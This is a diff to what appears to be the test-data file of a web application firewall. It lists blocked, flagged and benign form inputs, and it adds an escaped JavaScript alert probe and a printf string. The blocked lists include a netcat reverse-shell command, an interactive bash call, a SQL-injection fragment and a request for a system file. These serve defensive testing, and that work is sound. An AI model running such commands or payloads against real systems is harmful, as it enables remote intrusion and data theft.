@@ -252,6 +252,7 @@ WAF_FORMS_BLOCKED = [
     "x'='x",
     "nc -e /bin/sh 10.0.0.1 4444",
     "/bin/bash -i",
+    "al\\u0065rt(1)",  # JavaScript escapes decoded
 ]
 WAF_FORMS_ASKED = [
     "/etc/pam.conf",
@@ -273,6 +274,7 @@ WAF_FORMS_BENIGN = [
     'RED"; "BLUE"; "GREEN";',
     "Mugs; set of 4, blue",
     "Use the second '=' sign for assignment",
+    'printf("\\x41\\x42")',
 ]
 
 
